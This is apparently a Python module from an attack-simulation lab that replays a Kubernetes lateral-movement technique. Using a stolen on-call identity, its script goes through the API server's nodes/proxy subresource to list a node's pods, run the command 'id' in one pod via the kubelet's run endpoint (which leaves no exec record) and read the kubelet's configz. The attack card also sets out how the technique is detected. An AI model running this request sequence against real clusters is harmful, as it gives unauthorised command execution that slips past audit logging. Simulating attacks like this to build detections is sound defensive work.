"""Attack: kubelet's interface used through the API server.

Found by `catalog`; run by `run`. What it does and how it should be seen stands in the card.
"""

from __future__ import annotations

from riverwatch import vocabulary
from riverwatch.lab.attacks import base, context, paths

CARD = base.Card(
    id="node-proxy",
    title="Kubelet's interface used through the API server",
    technique=base.Technique(id="T1210", name="Exploitation of Remote Services", tactic="Lateral Movement"),
    use_case=vocabulary.UseCase.LATERAL_MOVEMENT,
    subtlety=base.Subtlety.OBVIOUS,
    does=("Lists the pods of a node and runs a command in one of them through nodes/proxy, where no exec is recorded."),
    seen_by="nodes/proxy with paths of the kubelet other than metrics and health.",
    cleans_up="Leaves nothing behind: it only reads.",
    victim=base.Part.ONCALL,
    reach=base.Reach.CLUSTER,
    needs=("a kubelet at an address of its own: the API server refuses to proxy to one on loopback, with status 400",),
    catalogues=(
        "Microsoft: Access Kubelet API",
        "stratus:k8s.privilege-escalation.nodes-proxy",
    ),
)
"""What a reader should know before it is run."""


def script(ctx: context.AttackContext) -> base.Script:
    """Yield the requests of the story, in order."""
    victim = ctx.victim(base.Part.ONCALL)
    thief = ctx.act_as(victim, user_agent=context.CURL)
    nodes = [name for _, name in ctx.known(paths.core("nodes"))] or ["worker-1"]
    node = ctx.rng.choice(nodes)
    yield thief.get(paths.core("nodes", "", node, "proxy/pods"))
    yield thief.get(paths.core("nodes", "", node, "proxy/runningpods/"))
    namespace = ctx.rng.choice(ctx.namespaces())
    pods = [name for _, name in ctx.known(paths.core("pods", namespace))] or ["front-0"]
    yield thief.create(
        paths.core("nodes", "", node, f"proxy/run/{namespace}/{ctx.rng.choice(pods)}/main"), None, {"cmd": "id"}
    )
    yield thief.get(paths.core("nodes", "", node, "proxy/configz"))


ATTACK = base.Attack(card=CARD, script=script)
"""The entry that `catalog` looks for."""
